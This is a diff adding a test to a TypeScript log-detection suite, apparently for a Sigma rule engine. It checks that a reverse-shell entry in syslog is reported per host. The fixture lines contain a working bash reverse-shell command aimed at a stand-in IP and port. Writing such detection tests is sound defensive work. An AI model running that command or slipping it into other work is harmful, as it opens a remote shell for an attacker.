@@ -84,6 +84,21 @@ describe('events of every source', () => {
   });
 });
 
+describe('an entity that stands in the text of a line', () => {
+  const shell = (second: number, host: string): string =>
+    `Jan  1 00:00:${String(second).padStart(2, '0')} ${host} bash[1]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`;
+
+  it('is told of by each host for itself', () => {
+    const sigma = new SigmaDetector(config.parse({}), silentLogger);
+    const found = [1, 2, 3].flatMap((second) => [...sigma.take(logs([shell(second, 'web1'), shell(second, 'db1')], 'syslog'))]);
+    const told = new Map(found.map((finding) => [finding.key, finding]));
+    expect([...told.values()].map(({ entity, host, evidence }) => [entity, host, evidence.length])).toEqual([
+      ['198.51.100.7', 'web1', 3],
+      ['198.51.100.7', 'db1', 3],
+    ]);
+  });
+});
+
 describe('the rules', () => {
   it('load from a folder or an archive of it, or are named with the reason', () => {
     const archive = join(folder, 'rules.tar.gz');
